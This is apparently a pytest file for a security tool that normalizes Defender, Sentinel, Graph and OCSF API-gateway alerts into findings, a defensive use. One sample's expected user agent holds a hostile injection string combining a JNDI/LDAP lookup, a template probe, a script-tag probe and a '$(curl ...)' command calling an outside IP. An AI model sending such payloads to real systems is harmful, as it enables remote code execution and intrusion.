"""Every shared sample finding normalizes to the expected Finding, detected or named."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from clampdown.model import Finding, Kind, Severity
from clampdown.sources import SHAPES, detect_shape, normalize

SVC = "apim-contoso-prod"


@dataclass(frozen=True)
class Expected:
    """What one Finding of a sample must hold."""

    source_id: str
    type: str
    severity: Severity
    ips: list[str]
    api: tuple[str | None, str | None, str | None]  # service, api, operation of apis[0]
    endpoint: str | None = None
    user_agent: str | None = None
    source: str = "defender"
    kind: Kind = Kind.ALERT


EXPECTED: dict[str, tuple[str, list[Expected]]] = {
    "defender-rest-suspicious-ip.json": (
        "defender-rest",
        [
            Expected(
                "2517170843029999999_4c7d1a9e-55b2-4f0e-8a61-0d3f9e2c7b11",
                "API_AccessFromSuspiciousIP",
                Severity.HIGH,
                ["203.0.113.77"],
                (SVC, "orders-api", "getOrder"),
                endpoint="GET /orders/{orderId}",
                user_agent="python-requests/2.31.0",
            )
        ],
    ),
    "defender-eventhub-batch.json": (
        "defender-rest",
        [
            Expected(
                "2517170843011111111_a1",
                "API_SpikeInAPITraffic",
                Severity.MEDIUM,
                ["198.51.100.23"],
                (SVC, "payments-api", "createPayment"),
                endpoint="POST /payments",
            ),
            Expected(
                "2517170843022222222_b2",
                "API_SprayInRequests",
                Severity.MEDIUM,
                ["198.51.100.90"],
                (SVC, "users-api", None),
            ),
        ],
    ),
    "defender-workflow-tor.json": (
        "defender-workflow",
        [
            Expected(
                "2517170843033333333_c3",
                "API_AccessFromTorExitNode",
                Severity.MEDIUM,
                ["2001:db8:4f2a::1c"],
                (SVC, "accounts-api", "getAccount"),
                endpoint="GET /accounts/{id}",
            )
        ],
    ),
    "securityalert-row-useragent.json": (
        "securityalert",
        [
            Expected(
                "2517170843044444444_d4",
                "API_AccessFromSuspiciousUserAgent",
                Severity.MEDIUM,
                ["192.0.2.45"],
                (SVC, "search-api", "search"),
                endpoint="GET /search",
                user_agent=(
                    "${jndi:ldap://192.0.2.45:1389/a} {{7*7}} <script>alert(1)</script>"
                    " $(curl 192.0.2.45)"
                ),
            )
        ],
    ),
    "graph-alert-param-enum.json": (
        "graph",
        [
            Expected(
                "2517170843055555555_e5",
                "API_ParameterEnumeration",
                Severity.MEDIUM,
                ["198.51.100.150"],
                (SVC, "orders-api", "getOrder"),
            )
        ],
    ),
    "sentinel-incident-payload.json": (
        "sentinel-incident",
        [
            Expected(
                "2517170843066666666_f6",
                "API_SpikeInPayload",
                Severity.MEDIUM,
                ["203.0.113.200"],
                (SVC, "customers-api", "exportCustomers"),
                endpoint="GET /customers/export",
            )
        ],
    ),
    "recommendation-unauthenticated-endpoint.json": (
        "defender-assessment",
        [
            Expected(
                "/subscriptions/6f1c2b9e-0a4d-4c1e-9d43-2b8f7e1a5c10/resourceGroups/rg-payments"
                "/providers/Microsoft.ApiManagement/service/apim-contoso-prod/apis/legacy-api"
                "/operations/listInvoices/providers/Microsoft.Security/assessments"
                "/91af2040-7874-4659-abf0-578e1f8d07dc",
                "Recommendation_UnauthenticatedEndpoint",
                Severity.HIGH,
                [],
                (SVC, "legacy-api", "listInvoices"),
                endpoint="GET /legacy/invoices",
                kind=Kind.RECOMMENDATION,
            )
        ],
    ),
    "recommendation-unused-endpoint.json": (
        "defender-assessment",
        [
            Expected(
                "/subscriptions/6f1c2b9e-0a4d-4c1e-9d43-2b8f7e1a5c10/resourceGroups/rg-payments"
                "/providers/Microsoft.ApiManagement/service/apim-contoso-prod/apis/legacy-api"
                "/operations/deleteInvoice/providers/Microsoft.Security/assessments"
                "/f1c9b1d2-5e3a-4c7b-9d8e-0a1b2c3d4e5f",
                "Recommendation_UnusedEndpoint",
                Severity.LOW,
                [],
                (SVC, "legacy-api", "deleteInvoice"),
                kind=Kind.RECOMMENDATION,
            )
        ],
    ),
    "ocsf-detection-finding.json": (
        "ocsf",
        [
            Expected(
                "waf-7781",
                "credential-stuffing",
                Severity.HIGH,
                ["192.0.2.10"],
                (None, None, None),
                endpoint="POST /login",
                user_agent="Mozilla/5.0",
                source="ocsf:example-api-firewall",
            )
        ],
    ),
}


def check(findings: list[Finding], shape: str, expected: list[Expected]) -> None:
    """Compare findings field by field with the expectations."""
    assert len(findings) == len(expected)
    for finding, want in zip(findings, expected, strict=True):
        assert finding.shape == shape
        assert (finding.source, finding.source_id) == (want.source, want.source_id)
        assert (finding.kind, finding.type, finding.severity) == (
            want.kind,
            want.type,
            want.severity,
        )
        assert finding.ips == want.ips
        assert finding.apis, "every sample names an API"
        first = finding.apis[0]
        assert (first.service, first.api, first.operation) == want.api
        assert finding.endpoint == want.endpoint
        assert finding.user_agent == want.user_agent


def test_every_sample_has_expectations(sample_names: list[str]) -> None:
    """A new sample file must be added to EXPECTED, so none goes untested."""
    assert sorted(EXPECTED) == sample_names


def test_sample_detected_and_normalized(sample_name: str, load_sample: Any) -> None:
    """Detection picks the right shape and automatic normalization gives the expected findings."""
    shape, expected = EXPECTED[sample_name]
    payload = load_sample(sample_name)
    assert detect_shape(payload) == shape
    check(normalize(payload), shape, expected)


def test_sample_normalized_by_named_shape(sample_name: str, load_sample: Any) -> None:
    """Naming the shape gives the same findings as detecting it."""
    shape, expected = EXPECTED[sample_name]
    assert shape in SHAPES
    check(normalize(load_sample(sample_name), shape), shape, expected)


def test_sample_raw_is_the_record(sample_name: str, load_sample: Any) -> None:
    """`raw` holds the record as received (the batch entry for a batch)."""
    payload = load_sample(sample_name)
    records = payload.get("records", [payload])
    for finding, record in zip(normalize(payload), records, strict=True):
        assert finding.raw == record


def test_hostile_user_agent_kept_verbatim(row_alert: dict[str, Any]) -> None:
    """The injection-laden user agent is data: byte for byte what the row carried."""
    sent = json.loads(row_alert["ExtendedProperties"])["Client user agent"]
    (finding,) = normalize(row_alert)
    assert finding.user_agent == sent
    assert finding.properties["Client user agent"] == sent


def test_rest_sample_details(rest_alert: dict[str, Any]) -> None:
    """Times, tactics, links, steps and properties of the REST sample are mapped."""
    (finding,) = normalize(rest_alert)
    assert finding.title == rest_alert["properties"]["alertDisplayName"]
    assert finding.status == "active"
    assert finding.tactics == ["PreAttack"]
    assert finding.first_seen is not None
    assert finding.first_seen.isoformat() == "2026-11-20T08:14:02+00:00"
    assert finding.reported_at is not None
    assert finding.reported_at.microsecond == 221000
    assert finding.url == rest_alert["properties"]["alertUri"]
    assert finding.remediation_steps == rest_alert["properties"]["remediationSteps"]
    assert finding.properties["Requests from IP"] == "1432"
    assert [api.operation for api in finding.apis] == ["getOrder", None]


def test_graph_sample_details(graph_alert: dict[str, Any]) -> None:
    """Graph: 7-digit fractions parse, category is the tactic, alertWebUrl the link."""
    (finding,) = normalize(graph_alert)
    assert finding.reported_at is not None
    assert finding.reported_at.isoformat() == "2026-11-24T09:12:44+00:00"
    assert finding.tactics == ["InitialAccess"]
    assert finding.status == "new"
    assert finding.url == graph_alert["alertWebUrl"]
    assert finding.properties["incidentId"] == "1187"


def test_sentinel_sample_details(incident: dict[str, Any]) -> None:
    """Sentinel: tactics from the incident, link to the incident, raw is the whole payload."""
    (finding,) = normalize(incident)
    assert finding.tactics == ["InitialAccess"]
    assert finding.url == incident["object"]["properties"]["incidentUrl"]
    assert finding.raw == incident


def test_ocsf_sample_details(ocsf_finding: dict[str, Any]) -> None:
    """OCSF: tactic names, technique ids and epoch-millisecond time."""
    (finding,) = normalize(ocsf_finding)
    assert finding.tactics == ["Credential Access"]
    assert finding.techniques == ["T1110"]
    assert finding.first_seen is not None
    assert finding.first_seen.timestamp() * 1000 == ocsf_finding["time"]
    assert finding.apis[0].id == "login-api"


def test_assessment_sample_details(assessment: dict[str, Any]) -> None:
    """Recommendation: status code lowercased, remediation description as the step."""
    (finding,) = normalize(assessment)
    assert finding.status == "unhealthy"
    remediation = assessment["properties"]["metadata"]["remediationDescription"]
    assert finding.remediation_steps == [remediation]
